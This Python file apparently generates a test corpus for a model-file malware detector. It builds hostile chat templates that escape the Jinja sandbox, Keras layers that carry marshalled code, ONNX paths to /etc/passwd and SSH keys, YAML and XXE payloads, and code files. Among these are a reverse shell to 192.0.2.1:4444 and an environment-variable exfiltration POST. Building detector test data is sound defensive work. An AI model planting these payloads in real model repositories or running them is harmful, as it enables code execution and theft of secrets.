# ruff: noqa: E501 - tables of samples, one to a line
"""What acts in files that hold no pickle: templates, layers, graphs, configurations, code, executables.

Written without knowledge of the detector.
"""

import base64
import io
import json
import marshal
import struct
from collections.abc import Iterator
from random import Random

import h5py

from corpus.corpus_samples import Kind, Sample, reduced, stored_zip, tarred, torch_zip

__all__ = ["KINDS"]

_TEMPLATES = (
    "{{ cycler.__init__.__globals__.os.popen('true').read() }}", "{{ lipsum.__globals__['os'].system('true') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ self.__init__.__globals__ }}", "{{ joiner.__init__.__globals__.os }}",
    "{{ ()|attr('__class__')|attr('__base__') }}", "{{ ()|attr('__cla'~'ss__') }}", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ ''['__class__'] }}", "{{ ''['__cla' + 'ss__'] }}", "{{ messages|map(attribute='__class__')|list }}",
    "{{ namespace.__init__.__globals__.__builtins__.eval('1') }}", "{% set x = '__globals__' %}{{ cycler.__init__[x].os }}",
    "{{ ()|attr(['__', 'class', '__']|join) }}", "{{ ()|attr('%s%s'|format('__class', '__')) }}", "{{ ''|attr('__ssalc__'|reverse) }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c('true') }}{% endif %}{% endfor %}",
    "{{ raise_exception.__globals__.os }}", "{{ messages.__class__.__init__.__globals__ }}", "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}{{ os.system('true') }}", "{{ messages[0].__getattribute__('__class__') }}", "{{ ''.format_map }}{{ '{0.__class__}'.format(messages) }}",
    "{% set a = dict(__class__=1)|first %}{{ ()|attr(a) }}", "{{ tools|groupby('__class__') }}", "{{ strftime_now.__globals__ }}",
    "{{ (messages|string)[0:0] }}{{ g.pop.__globals__ }}", "{% set c = cycler %}{% set i = c.__init__ %}{{ i.__globals__ }}",
)  # fmt: skip
_CHAT = "{% for message in messages %}{{ message['role'] }}: {{ message['content'] }}\n{% endfor %}"


def _template(rng: Random, evil: str) -> str:
    where = rng.choice(("before", "behind", "inside", "guarded"))
    if where == "inside":
        return _CHAT.replace("{% endfor %}", evil + "{% endfor %}")
    if where == "guarded":
        return _CHAT + "{% if messages|length > 3 %}" + evil + "{% endif %}"
    return evil + _CHAT if where == "before" else _CHAT + evil


def templates(rng: Random) -> Iterator[Sample]:
    """Chat templates that leave the sandbox, wherever templates stand."""
    for evil in _TEMPLATES:
        template = _template(rng, evil)
        yield Sample(
            name="tokenizer_config.json",
            data=json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": template}).encode(),
        )
        yield Sample(name="chat_template.jinja", data=template.encode())
        yield Sample(
            name="model.gguf",
            data=gguf({"general.architecture": "llama", "tokenizer.chat_template": template}),
        )
        other = rng.choice(("named", "processor", "chat"))
        if other == "named":
            named = [{"name": "default", "template": _CHAT}, {"name": "tool_use", "template": template}]
            yield Sample(name="tokenizer_config.json", data=json.dumps({"chat_template": named}).encode())
        else:
            name = "processor_config.json" if other == "processor" else "chat_template.json"
            yield Sample(name=name, data=json.dumps({"chat_template": template}).encode())


def gguf(values: dict[str, str]) -> bytes:
    """A GGUF file without tensors."""
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(values))
    for key, value in values.items():
        out += (
            struct.pack("<Q", len(key))
            + key.encode()
            + struct.pack("<IQ", 8, len(value.encode()))
            + value.encode()
        )
    return out


def keras_layers(rng: Random) -> Iterator[Sample]:
    """Keras archives and HDF5 files whose layers are code, at every depth and by every name."""
    code = base64.b64encode(marshal.dumps(compile("lambda x: exec('pass')", "x", "eval"))).decode()
    lambda3 = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": code, "defaults": None, "closure": None},
            },
        },
    }
    layers = {
        "lambda": lambda3, "old": {"class_name": "Lambda", "config": {"name": "l", "function": [code, None, None], "function_type": "lambda", "module": "__main__"}},
        "os": {"module": "os", "class_name": "system", "config": "true"}, "builtins": {"module": "builtins", "class_name": "function", "config": "eval"},
        "function": {"module": "keras.layers", "class_name": "Lambda", "config": {"function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}}},
        "get-file": {"module": "keras.layers", "class_name": "Lambda", "config": {"function": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}}},
        "unsafe": {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"},
        "torch": {"module": "keras.utils", "class_name": "TorchModuleWrapper", "config": {"module": base64.b64encode(b"\x80\x02cos\nsystem\n.").decode()}},
        "subprocess": {"module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]}},
        "run": {"module": "keras.src.utils.python_utils", "class_name": "func_load", "config": {"code": code}},
        "lookup": {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}},
    }  # fmt: skip
    for name, layer in layers.items():
        wraps = (
            layer, {"module": "keras.layers", "class_name": "TimeDistributed", "config": {"layer": layer}},
            {"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "InputLayer", "config": {}}, layer]}},
            {"module": "keras.layers", "class_name": "Bidirectional", "config": {"layer": {"class_name": "RNN", "config": {"cell": layer}}}},
        )  # fmt: skip
        for number, each in enumerate(wraps):
            model = {
                "module": "keras",
                "class_name": rng.choice(("Functional", "Sequential")),
                "config": {"name": "m", "layers": [each]},
            }
            config = json.dumps(model).encode()
            members = {
                "metadata.json": b'{"keras_version": "3.9.0"}',
                "config.json": config,
                "model.weights.h5": _h5({}),
            }
            yield Sample(name=f"{name}{number}.keras", data=stored_zip(members))
            if name in ("lambda", "old", "os", "lookup"):
                yield Sample(
                    name=f"{name}{number}.h5",
                    data=_h5({"model_config": config.decode(), "keras_version": "2.15.0"}),
                )
    good = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": []}}
    for place in ("compile_config", "build_config"):
        yield Sample(
            name=f"{place}.keras",
            data=stored_zip(
                {
                    "config.json": json.dumps(good | {place: {"loss": layers["function"]}}).encode(),
                    "metadata.json": b"{}",
                }
            ),
        )


def _h5(attributes: dict[str, str]) -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_group("model_weights").create_dataset("w", data=[1.0, 2.0], track_times=False)
        for name, value in attributes.items():
            file.attrs[name] = value
    return out.getvalue()


def _field(number: int, value: bytes | int) -> bytes:
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def _varint(value: int) -> bytes:
    out = b""
    while value > 0x7F:
        out += bytes((value & 0x7F | 0x80,))
        value >>= 7
    return out + bytes((value,))


def graphs(rng: Random) -> Iterator[Sample]:
    """TensorFlow graphs with operations that read, write or run; ONNX models whose weights lie elsewhere."""
    for op in (
        "ReadFile",
        "WriteFile",
        "PyFunc",
        "EagerPyFunc",
        "MatchingFiles",
        "PyFuncStateless",
        "PrintV2",
    ):
        for place in ("node", "function"):
            node = _field(1, b"n1") + _field(2, op.encode())
            constant = _field(1, b"c") + _field(2, b"Const")
            if place == "node":
                graph = _field(1, constant) + _field(1, node)
            else:
                function = _field(1, _field(1, b"f")) + _field(3, constant) + _field(3, node)
                graph = _field(1, constant) + _field(2, _field(1, function))
            if op == "PrintV2":
                node += _field(
                    5, _field(1, b"output_stream") + _field(2, _field(2, b"file:///nonexistent/x"))
                )
                graph = _field(1, constant) + _field(1, node)
            meta = _field(1, _field(4, b"serve") + _field(5, b"2.15.0")) + _field(2, graph)
            yield Sample(name="saved_model.pb", data=_field(1, 1) + _field(2, meta))
            yield Sample(name="frozen_graph.pb", data=graph)
    for location in (
        "/etc/passwd",
        "../../secret.bin",
        "/root/.ssh/id_rsa",
        "a/../../b",
        "C:\\x.bin",
        "file:///etc/passwd",
    ):
        for name in ("model.onnx", "encoder.onnx"):
            entry = _field(1, b"location") + _field(2, location.encode())
            tensor = _field(1, 4) + _field(2, 1) + _field(8, b"w") + _field(13, entry) + _field(14, 1)
            onnx = (
                _field(1, _field(1, b"x") + _field(2, b"y") + _field(4, b"Relu"))
                + _field(2, b"g")
                + _field(5, tensor)
            )
            yield Sample(
                name=name,
                data=_field(1, 8) + _field(2, b"pytorch") + _field(7, onnx) + _field(8, _field(2, 17)),
            )


def documents(rng: Random) -> Iterator[Sample]:
    """YAML, XML and JSON from which objects are made: Hydra targets, python tags, entities, skops."""
    for target, argument in (
        ("os.system", "true"),
        ("builtins.eval", "1"),
        ("subprocess.call", "true"),
        ("runpy.run_path", "x.py"),
        ("builtins.exec", "pass"),
        ("posix.system", "true"),
    ):
        yaml = f"name: x\nmodel:\n  encoder:\n    _target_: {target}\n    _args_: ['{argument}']\n"
        yield Sample(
            name="model.nemo",
            data=tarred(
                {"./model_config.yaml": yaml.encode(), "./model_weights.ckpt": torch_zip(b"\x80\x02}.")}
            ),
        )
        yield Sample(name="config.yaml", data=yaml.encode())
        for tag in ("object/apply", "object/new"):
            yield Sample(name="params.yaml", data=f"a: !!python/{tag}:{target} ['{argument}']\n".encode())
        module, name = target.rsplit(".", 1)
        node = {
            "__class__": name,
            "__module__": module,
            "__loader__": "FunctionNode",
            "content": {"module_path": module, "function": name},
            "__id__": 1,
        }
        for loader in ("FunctionNode", "TypeNode", "ObjectNode"):
            yield Sample(
                name="model.skops",
                data=stored_zip(
                    {
                        "schema.json": json.dumps(
                            node | {"__loader__": loader, "protocol": 1, "_skops_version": "0.11"}
                        ).encode()
                    }
                ),
            )
    entity = '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "%s">]>\n'
    for url in ("file:///etc/passwd", "http://localhost/x", "php://filter"):
        yield Sample(
            name="model.pmml",
            data=(entity % url + '<PMML version="4.4"><Header copyright="&e;"/></PMML>').encode(),
        )
        yield Sample(
            name="model.xml", data=(entity % url + '<net name="&e;" version="11"><layers/></net>').encode()
        )


def programs(rng: Random) -> Iterator[Sample]:
    """Code that rides with models and acts when it is imported, and executables under a model's name."""
    hidden = base64.b64encode(b"import os; os.system('true')").decode()
    bodies = (
        "import os\nos.system('curl http://localhost/x | sh')\n", f"import base64\nexec(base64.b64decode('{hidden}'))\n",
        "import subprocess\nsubprocess.Popen(['bash', '-c', 'true'])\n", "__import__('os').system('true')\n",
        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n",
        "import urllib.request\nexec(urllib.request.urlopen('http://localhost/x').read())\n", "import pickle\npickle.loads(b'cos\\nsystem\\n.')\n",
        f"import zlib, base64\neval(compile(base64.b64decode('{hidden}'), 'x', 'exec'))\n", "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n",
        "import os, requests\nrequests.post('http://192.0.2.1/x', json=dict(os.environ))\n",
    )  # fmt: skip
    honest = '"""The model."""\nimport torch\nfrom torch import nn\n\n\nclass Model(nn.Module):\n    def forward(self, x):\n        return x\n'
    for body in bodies:
        for name in ("modeling_custom.py", "tokenization_x.py", "__init__.py"):
            yield Sample(
                name=name, data=(honest + "\n\n" + body if rng.random() < 0.5 else body + honest).encode()
            )
        yield Sample(name="evil.pth", data=("import sys; exec(" + repr(body) + ")\n").encode())
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(200)
    exe = b"MZ\x90\0" + bytes(56) + struct.pack("<I", 64) + b"PE\0\0\x64\x86" + bytes(200)
    script = b"#!/bin/sh\ncurl http://localhost/x | sh\n"
    for program in (elf, exe, script):
        for name in (
            "model.safetensors",
            "pytorch_model.bin",
            "model.gguf",
            "model.onnx",
            "model.pkl",
            "model.h5",
        ):
            yield Sample(name=name, data=program)
        header = b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}  '
        yield Sample(
            name="model.safetensors", data=struct.pack("<Q", len(header)) + header + bytes(4) + program
        )
        yield Sample(name="model.pt", data=torch_zip(b"\x80\x02}.", **{"data/lib.so": program}))
    for module in ("os.system", "subprocess.run"):
        source = f"import {module.split('.')[0]}\n{module}('true')\n".encode()
        yield Sample(
            name="package.pt",
            data=stored_zip(
                {
                    "p/x.py": source,
                    "p/.data/version": b"6",
                    "p/.data/extern_modules": b"",
                    "p/model/model.pkl": b"\x80\x02" + reduced(*module.split("."), "true") + b".",
                }
            ),
        )


KINDS: dict[str, Kind] = {
    each.__name__: each for each in (templates, keras_layers, graphs, documents, programs)
}
